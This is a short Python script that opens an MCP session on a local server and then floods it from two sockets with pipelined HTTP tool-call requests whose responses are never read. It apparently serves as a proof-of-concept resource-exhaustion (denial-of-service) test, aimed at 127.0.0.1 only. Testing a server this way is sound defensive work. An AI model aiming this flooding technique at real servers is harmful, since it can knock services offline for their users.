import socket, time, json, http.client, sys
port=int(sys.argv[1]); dur=float(sys.argv[2])
def init():
    c=http.client.HTTPConnection("127.0.0.1",port)
    c.request("POST","/mcp",body=json.dumps({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"b","version":"1"}}}),headers={"Content-Type":"application/json","Accept":"application/json"})
    r=c.getresponse(); r.read(); return r.getheader("Mcp-Session-Id")
sid=init()
body=json.dumps({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list_rooms","arguments":{}}})
req=("POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json\r\nMcp-Session-Id: %s\r\nContent-Length: %d\r\n\r\n%s"%(sid,len(body),body)).encode()
attackers=[]
for k in range(2):
    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect(("127.0.0.1",port)); s.setblocking(False)
    attackers.append(s)
sent=[0,0]
t=time.time()
while time.time()-t<dur:
    for i,s in enumerate(attackers):
        try: s.send(req); sent[i]+=1
        except BlockingIOError: pass
print("pipelined (never read):", sent, flush=True)
time.sleep(120)
